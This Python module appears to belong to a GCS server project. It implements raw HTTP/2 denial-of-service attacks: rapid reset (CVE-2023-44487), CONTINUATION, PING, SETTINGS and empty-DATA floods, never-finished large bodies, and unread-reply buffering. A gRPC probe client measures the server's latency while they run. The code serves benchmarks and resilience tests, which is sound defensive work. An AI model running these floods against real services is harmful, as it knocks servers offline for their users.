"""HTTP/2 attacks on a GCS port, and the probe client that runs beside them.

Each attack is a coroutine ``attack(host, port, until, **knobs) -> AttackStats`` speaking
raw HTTP/2 frames (a hostile client does not use a gRPC library); it reconnects whenever
the server closes its connection, until ``until`` (a monotonic time) or its own count is
reached.  :class:`Probe` is a normal grpc.aio client calling ``InternalKVGet`` at a fixed
interval, recording each call's latency and failure.  Used by ``bench/port/run.py``
(against ``gcs serve`` and Ray's ``gcs_server``) and by the attack tests
(``tests/server/test_front_attacks.py``, scaled down).
"""

from __future__ import annotations

import asyncio
import contextlib
import struct
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field

from gcs.rpc.h2_frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    S_INITIAL_WINDOW_SIZE,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    literal,
    literal_new,
)
from gcs.rpc.method_paths import varint

KV_GET = "/ray.rpc.InternalKVGcsService/InternalKVGet"
KV_PUT = "/ray.rpc.InternalKVGcsService/InternalKVPut"
KV_KEYS = "/ray.rpc.InternalKVGcsService/InternalKVKeys"
GET_ALL_NODES = "/ray.rpc.NodeInfoGcsService/GetAllNodeInfo"
CANCEL = 0x8
MAX_WINDOW = 2**31 - 1


def _field(number: int, value: bytes) -> bytes:
    return varint(number << 3 | 2) + varint(len(value)) + value


def kv_get_request(namespace: bytes, key: bytes) -> bytes:
    """An encoded ``InternalKVGetRequest`` (key = 1, namespace = 2)."""
    return _field(1, key) + _field(2, namespace)


def grpc_message(message: bytes) -> bytes:
    return b"\x00" + struct.pack(">I", len(message)) + message


def request_block(path: str, extra: tuple[tuple[str, str], ...] = ()) -> bytes:
    """A request header block of literals without indexing (valid on any connection)."""
    block = (
        b"\x83\x86"  # :method POST, :scheme http
        + literal(4, path)
        + literal(1, "gcs")
        + literal(31, "application/grpc")
        + literal_new("te", "trailers")
    )
    return block + b"".join(literal_new(k, v) for k, v in extra)


@dataclass
class AttackStats:
    connections: int = 0
    frames: int = 0
    goaways: dict[int, int] = field(default_factory=dict)
    """GOAWAY error code -> how many the server sent."""
    closed_by_server: int = 0
    answers: int = 0
    """Streams the server answered (HEADERS) -- for attacks that wait for answers."""

    def add(self, other: AttackStats) -> None:
        self.connections += other.connections
        self.frames += other.frames
        self.closed_by_server += other.closed_by_server
        self.answers += other.answers
        for code, n in other.goaways.items():
            self.goaways[code] = self.goaways.get(code, 0) + n


class RawH2:
    """One raw HTTP/2 client connection.  A reader task parses what the server sends:
    GOAWAY codes, window updates (so an attack can respect flow control), answered
    streams; ``closed`` is set when the server closes the connection."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        self.stats = AttackStats(connections=1)
        self.closed = asyncio.Event()
        self.window = 65535
        self.stream_window_initial = 65535
        self.stream_windows: dict[int, int] = {}
        self.window_changed = asyncio.Event()
        self.answered: set[int] = set()
        self.answer_event = asyncio.Event()
        self.received: list[tuple[int, int, int, bytes]] = []
        """HEADERS, RST_STREAM and GOAWAY frames from the server, in order."""
        self.received_event = asyncio.Event()
        self._task = asyncio.get_running_loop().create_task(self._read())
        self.next_sid = 1

    @classmethod
    async def open(
        cls, host: str, port: int, settings: bytes = b"", *, rcvbuf: int = 0, read: bool = True
    ) -> RawH2:
        sock = None
        if rcvbuf:
            import socket

            sock = socket.socket()
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
            sock.setblocking(False)
            await asyncio.get_running_loop().sock_connect(sock, (host, port))
            reader, writer = await asyncio.open_connection(sock=sock)
        else:
            reader, writer = await asyncio.open_connection(host, port)
        conn = cls(reader, writer)
        if not read:
            conn._task.cancel()
        writer.write(PREFACE + frame(SETTINGS, 0, 0, settings))
        return conn

    def sid(self) -> int:
        sid = self.next_sid
        self.next_sid += 2
        return sid

    def send(self, data: bytes, frames: int = 1) -> None:
        self.stats.frames += frames
        self.writer.write(data)

    async def drain(self) -> bool:
        """False once the connection is gone."""
        if self.closed.is_set():
            return False
        try:
            await self.writer.drain()
        except (ConnectionError, OSError):
            self.closed.set()
            return False
        return not self.closed.is_set()

    async def _read(self) -> None:
        buf = bytearray()
        try:
            while True:
                data = await self.reader.read(1 << 16)
                if not data:
                    break
                buf += data
                pos = 0
                while len(buf) - pos >= 9:
                    length = int.from_bytes(buf[pos : pos + 3])
                    if len(buf) - pos - 9 < length:
                        break
                    ftype, flags = buf[pos + 3], buf[pos + 4]
                    sid = int.from_bytes(buf[pos + 5 : pos + 9]) & 0x7FFFFFFF
                    payload = bytes(buf[pos + 9 : pos + 9 + length])
                    pos += 9 + length
                    self._on_frame(ftype, flags, sid, payload)
                del buf[:pos]
        except (ConnectionError, OSError):
            pass
        finally:
            if not self.closed.is_set():
                self.stats.closed_by_server += 1
            self.closed.set()
            self.window_changed.set()
            self.answer_event.set()
            self.received_event.set()

    def _on_frame(self, ftype: int, flags: int, sid: int, payload: bytes) -> None:
        if ftype in (HEADERS, RST_STREAM, GOAWAY):
            self.received.append((ftype, flags, sid, payload))
            self.received_event.set()
        if ftype == GOAWAY and len(payload) >= 8:
            code = struct.unpack(">I", payload[4:8])[0]
            self.stats.goaways[code] = self.stats.goaways.get(code, 0) + 1
        elif ftype == WINDOW_UPDATE and len(payload) == 4:
            increment = struct.unpack(">I", payload)[0] & 0x7FFFFFFF
            if sid == 0:
                self.window += increment
            else:
                self.stream_windows[sid] = (
                    self.stream_windows.get(sid, self.stream_window_initial) + increment
                )
            self.window_changed.set()
        elif ftype == SETTINGS and not flags & ACK:
            for pos in range(0, len(payload) - 5, 6):
                ident, value = struct.unpack_from(">HI", payload, pos)
                if ident == S_INITIAL_WINDOW_SIZE:
                    self.stream_window_initial = value
            self.writer.write(frame(SETTINGS, ACK, 0))
        elif ftype in (HEADERS, RST_STREAM) and sid and sid not in self.answered:
            self.answered.add(sid)
            self.stats.answers += 1
            self.answer_event.set()

    def stream_window(self, sid: int) -> int:
        return self.stream_windows.get(sid, self.stream_window_initial)

    def spend(self, sid: int, size: int) -> None:
        self.window -= size
        self.stream_windows[sid] = self.stream_window(sid) - size

    async def close(self) -> None:
        if not self.closed.is_set():
            self.closed.set()  # closed by us: not counted as the server's
        self.writer.close()
        with contextlib.suppress(Exception):
            await self.writer.wait_closed()
        self._task.cancel()
        with contextlib.suppress(asyncio.CancelledError, Exception):
            await self._task


Round = Callable[[RawH2], Awaitable[bool]]
"""One burst of an attack on a connection; False when the connection is gone."""


async def _reconnecting(
    host: str,
    port: int,
    until: float,
    burst: Round,
    *,
    settings: bytes = b"",
    max_connections: int = 0,
) -> AttackStats:
    """Run ``burst`` on a connection until the deadline, reconnecting when the server
    closes it (at most ``max_connections`` connections when > 0)."""
    total = AttackStats()
    opened = 0
    while time.monotonic() < until and (not max_connections or opened < max_connections):
        try:
            conn = await RawH2.open(host, port, settings)
        except OSError:
            await asyncio.sleep(0.01)
            continue
        opened += 1
        try:
            while time.monotonic() < until and await burst(conn):
                pass
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(max(0.0, min(1.0, until - time.monotonic()))):
                    await conn.closed.wait()
        finally:
            await conn.close()
            total.add(conn.stats)
    return total


async def many(n: int, attack: Callable[[], Awaitable[AttackStats]]) -> AttackStats:
    """``n`` copies of an attack at once (one per attacking client)."""
    total = AttackStats()
    for stats in await asyncio.gather(*(attack() for _ in range(n))):
        total.add(stats)
    return total


# ---- the attacks ---------------------------------------------------------------------------


async def rapid_reset(
    host: str, port: int, until: float, *, batch: int = 200, max_connections: int = 0
) -> AttackStats:
    """HEADERS + DATA (a whole InternalKVGet) + RST_STREAM(CANCEL), stream after stream
    (CVE-2023-44487)."""
    block = request_block(KV_GET)
    body = grpc_message(kv_get_request(b"bench", b"probe"))

    async def burst(conn: RawH2) -> bool:
        out = bytearray()
        for _ in range(batch):
            sid = conn.sid()
            out += frame(HEADERS, END_HEADERS, sid, block)
            out += frame(DATA, END_STREAM, sid, body)
            out += frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
        conn.send(bytes(out), 3 * batch)
        return await conn.drain()

    return await _reconnecting(host, port, until, burst, max_connections=max_connections)


async def large_bodies(
    host: str,
    port: int,
    until: float,
    *,
    declared: int = 160 << 20,
    per_connection: int = 160 << 20,
    path: str = GET_ALL_NODES,
) -> AttackStats:
    """Requests whose length prefix declares ``declared`` bytes, body sent as fast as flow
    control allows, never finished; a new stream whenever the server answers one."""
    block = request_block(path)
    total = AttackStats()
    while time.monotonic() < until:
        conn = await RawH2.open(host, port)
        sent = 0
        try:
            while time.monotonic() < until and sent < per_connection:
                sid = conn.sid()
                conn.send(frame(HEADERS, END_HEADERS, sid, block))
                first = b"\x00" + struct.pack(">I", declared)
                chunk = first + b"\x00" * (16384 - len(first))
                while time.monotonic() < until and sent < per_connection:
                    if sid in conn.answered:
                        break  # refused: try another stream
                    room = min(conn.window, conn.stream_window(sid), len(chunk))
                    if room <= 0:
                        conn.window_changed.clear()
                        with contextlib.suppress(TimeoutError):
                            async with asyncio.timeout(
                                max(0.0, min(0.2, until - time.monotonic()))
                            ):
                                await conn.window_changed.wait()
                        if conn.closed.is_set():
                            break
                        continue
                    conn.send(frame(DATA, 0, sid, chunk[:room]))
                    conn.spend(sid, room)
                    sent += room
                    chunk = b"\x00" * 16384
                    if not await conn.drain():
                        break
                if conn.closed.is_set():
                    break
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(max(0.0, until - time.monotonic())):
                    await conn.closed.wait()
        finally:
            await conn.close()
            total.add(conn.stats)
    return total


async def _flood(
    host: str,
    port: int,
    until: float,
    unit: bytes,
    *,
    opener: bytes = b"",
    batch: int,
    max_connections: int,
) -> AttackStats:
    """``opener`` once per connection (a request on stream 1), then ``unit`` frames in
    batches as fast as the socket takes them."""

    async def burst(conn: RawH2) -> bool:
        if opener and conn.next_sid == 1:
            conn.send(opener)
            conn.sid()
        conn.send(unit * batch, batch)
        return await conn.drain()

    return await _reconnecting(host, port, until, burst, max_connections=max_connections)


async def continuation_flood(
    host: str, port: int, until: float, *, batch: int = 500, max_connections: int = 0
) -> AttackStats:
    """HEADERS without END_HEADERS, then zero-length CONTINUATION frames forever."""
    opener = frame(HEADERS, 0, 1, request_block(KV_GET)[:4])
    unit = frame(CONTINUATION, 0, 1, b"")
    return await _flood(
        host, port, until, unit, opener=opener, batch=batch, max_connections=max_connections
    )


async def ping_flood(
    host: str, port: int, until: float, *, batch: int = 500, max_connections: int = 0
) -> AttackStats:
    """PING frames as fast as the socket takes them."""
    unit = frame(PING, 0, 0, b"floodpng")
    return await _flood(host, port, until, unit, batch=batch, max_connections=max_connections)


async def settings_flood(
    host: str, port: int, until: float, *, batch: int = 500, max_connections: int = 0
) -> AttackStats:
    """SETTINGS frames (each to be acknowledged) as fast as the socket takes them."""
    unit = frame(SETTINGS, 0, 0, struct.pack(">HI", S_INITIAL_WINDOW_SIZE, 65535))
    return await _flood(host, port, until, unit, batch=batch, max_connections=max_connections)


async def empty_data_flood(
    host: str, port: int, until: float, *, batch: int = 500, max_connections: int = 0
) -> AttackStats:
    """An open stream, then empty DATA frames without END_STREAM forever."""
    opener = frame(HEADERS, END_HEADERS, 1, request_block(KV_GET))
    unit = frame(DATA, 0, 1, b"")
    return await _flood(
        host, port, until, unit, opener=opener, batch=batch, max_connections=max_connections
    )


async def unread_replies(
    host: str,
    port: int,
    until: float,
    *,
    namespace: bytes = b"bench",
    key: bytes = b"large",
    streams: int = 16,
    path: str = KV_GET,
    body: bytes | None = None,
    stop: asyncio.Event | None = None,
) -> AttackStats:
    """Asks for a large value on ``streams`` streams with every window wide open, and never
    reads the socket (a tiny receive buffer): the replies pile up in the server.  Held
    until ``until`` or ``stop``."""
    settings = struct.pack(">HI", S_INITIAL_WINDOW_SIZE, MAX_WINDOW)
    conn = await RawH2.open(host, port, settings, rcvbuf=4096, read=False)
    try:
        block = request_block(path)
        message = grpc_message(body if body is not None else kv_get_request(namespace, key))
        out = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW - 65535))
        for _ in range(streams):
            sid = conn.sid()
            out += frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, message)
        conn.send(out, 1 + 2 * streams)
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(max(0.0, until - time.monotonic())):
                await conn.drain()
                await (stop if stop is not None else asyncio.Event()).wait()
    finally:
        conn.writer.transport.abort()
        await conn.close()
    return conn.stats


# ---- the probe ---------------------------------------------------------------------------


@dataclass
class ProbeResult:
    latencies_s: list[float] = field(default_factory=list)
    failures: list[str] = field(default_factory=list)

    @property
    def calls(self) -> int:
        return len(self.latencies_s) + len(self.failures)

    def pct_ms(self, q: float) -> float:
        if not self.latencies_s:
            return float("nan")
        ordered = sorted(self.latencies_s)
        return 1000 * ordered[min(len(ordered) - 1, round(q * (len(ordered) - 1)))]

    def max_ms(self) -> float:
        return 1000 * max(self.latencies_s) if self.latencies_s else float("nan")


class Probe:
    """A normal client: ``InternalKVGet`` every ``interval_s`` on one grpc.aio channel, each
    call with a ``timeout_s`` deadline; a failed call is any non-OK status (a missing key
    is OK in the reply's own status)."""

    def __init__(self, address: str, *, interval_s: float = 0.1, timeout_s: float = 5.0) -> None:
        self.address = address
        self.interval_s = interval_s
        self.timeout_s = timeout_s
        self.result = ProbeResult()
        self._stop = asyncio.Event()
        self._task: asyncio.Task[None] | None = None
        self.first_call = asyncio.Event()

    async def __aenter__(self) -> Probe:
        self._task = asyncio.get_running_loop().create_task(self._run())
        await self.first_call.wait()
        return self

    async def __aexit__(self, *exc: object) -> None:
        self._stop.set()
        if self._task is not None:
            await self._task

    async def _run(self) -> None:
        import grpc

        body = kv_get_request(b"bench", b"probe")
        async with grpc.aio.insecure_channel(self.address) as channel:
            call = channel.unary_unary(KV_GET)
            while not self._stop.is_set():
                start = time.perf_counter()
                try:
                    await call(body, timeout=self.timeout_s)
                    self.result.latencies_s.append(time.perf_counter() - start)
                except grpc.aio.AioRpcError as err:
                    self.result.failures.append(f"{err.code().name}: {err.details()}")
                self.first_call.set()
                if not self.interval_s:
                    await asyncio.sleep(0)  # back to back, yielding to the attack
                    continue
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(self.interval_s):
                        await self._stop.wait()
